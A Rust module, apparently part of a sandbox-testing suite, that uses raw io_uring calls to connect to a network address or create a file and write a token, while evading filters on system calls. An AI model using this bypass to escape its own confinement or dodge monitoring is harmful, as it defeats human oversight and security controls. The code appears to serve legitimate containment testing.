//! The same through `io_uring`, whose operations no filter of system calls sees.

use crate::arguments::Arguments;
use crate::descriptors::map;
use crate::internet::{family, wire_address};
use crate::outcome::{Done, Outcome, Refused, attacks, system_call};

attacks! { uring_connect, uring_create }

const OP_CONNECT: u8 = 16;
const OP_OPENAT: u8 = 18;
const OP_WRITE: u8 = 23;
const OP_SOCKET: u8 = 45;
const SINGLE_MMAP: u32 = 1;
const GET_EVENTS: u32 = 1;

/// `struct io_uring_params`, with the offsets of both rings at their end.
#[repr(C)]
#[derive(Default)]
struct Parameters {
    head: [u32; 10],
    submission: [u32; 10],
    completion: [u32; 10],
}

/// `struct io_uring_sqe`.
#[repr(C)]
#[derive(Default)]
struct Entry {
    opcode: u8,
    flags: u8,
    priority: u16,
    fd: i32,
    offset: u64,
    address: u64,
    length: u32,
    operation_flags: u32,
    data: u64,
    rest: [u64; 3],
}

struct Ring {
    fd: usize,
    rings: *mut u8,
    entries: *mut Entry,
    parameters: Parameters,
}

impl Ring {
    fn new() -> Result<Self, Refused> {
        let mut parameters = Parameters::default();
        let fd = system_call!(SYS_io_uring_setup, 4, &raw mut parameters)?;
        if parameters.head[5] & SINGLE_MMAP == 0 {
            return Err(Refused::without_effect("io_uring_setup"));
        }
        let rings = map_page(fd, 0)?;
        let entries = map_page(fd, 0x1000_0000)?.cast();
        Ok(Self { fd, rings, entries, parameters })
    }

    fn word(&self, offset: u32) -> *mut u32 {
        // SAFETY: the kernel has given the offset, and the rings of four entries fit into the page.
        unsafe { self.rings.add(offset as usize).cast() }
    }

    /// Submits one operation and waits for its result.
    fn submit(&mut self, call: &str, entry: Entry) -> Result<usize, Refused> {
        let [_, tail, mask, _, _, _, array, ..] = self.parameters.submission;
        let [done_head, _, done_mask, _, _, done, ..] = self.parameters.completion;
        // SAFETY: one operation is under way at a time, so nothing else touches the rings; the
        // indices are masked as the kernel asks.
        unsafe {
            let at = self.word(tail).read_volatile() & self.word(mask).read();
            self.entries.add(at as usize).write(entry);
            self.word(array).add(at as usize).write(at);
            let next = self.word(tail).read_volatile().wrapping_add(1);
            self.word(tail).write_volatile(next);
        }
        system_call!(SYS_io_uring_enter, self.fd, 1, 1, GET_EVENTS, 0, 0)?;
        // SAFETY: as above; a completion has 16 bytes, of which the third word is the result.
        let result = unsafe {
            let head = self.word(done_head).read_volatile();
            let at = head & self.word(done_mask).read();
            let result = self.word(done).add(at as usize * 4 + 2).read_volatile() as i32;
            self.word(done_head).write_volatile(head.wrapping_add(1));
            result
        };
        if result < 0 {
            return Err(Refused::new(call, std::io::Error::from_raw_os_error(-result)));
        }
        Ok(result as usize)
    }
}

fn map_page(fd: usize, offset: i64) -> Result<*mut u8, Refused> {
    let protection = libc::PROT_READ | libc::PROT_WRITE;
    map(4096, protection, libc::MAP_SHARED | libc::MAP_POPULATE, fd as i32, offset)
}

fn write(ring: &mut Ring, fd: usize, token: &str) -> Outcome {
    let address = token.as_ptr() as u64;
    let length = token.len() as u32;
    let entry = Entry { opcode: OP_WRITE, fd: fd as i32, address, length, ..Entry::default() };
    ring.submit("write", entry).done()
}

fn uring_connect(arguments: &Arguments) -> Outcome {
    let address = arguments.address(0)?;
    let to = wire_address(address);
    let mut ring = Ring::new()?;
    let offset = libc::SOCK_STREAM as u64;
    let domain = family(address);
    let fd =
        ring.submit("socket", Entry { opcode: OP_SOCKET, fd: domain, offset, ..Entry::default() })?;
    let place = to.as_ptr() as u64;
    let entry = Entry {
        opcode: OP_CONNECT,
        fd: fd as i32,
        address: place,
        offset: to.len() as u64,
        ..Entry::default()
    };
    ring.submit("connect", entry)?;
    write(&mut ring, fd, arguments.text(1)?)
}

fn uring_create(arguments: &Arguments) -> Outcome {
    let path = arguments.path(0)?;
    let mut ring = Ring::new()?;
    let entry = Entry {
        opcode: OP_OPENAT,
        fd: libc::AT_FDCWD,
        address: path.as_ptr() as u64,
        length: 0o644,
        operation_flags: (libc::O_CREAT | libc::O_WRONLY) as u32,
        ..Entry::default()
    };
    let fd = ring.submit("openat", entry)?;
    write(&mut ring, fd, arguments.text(1)?)
}
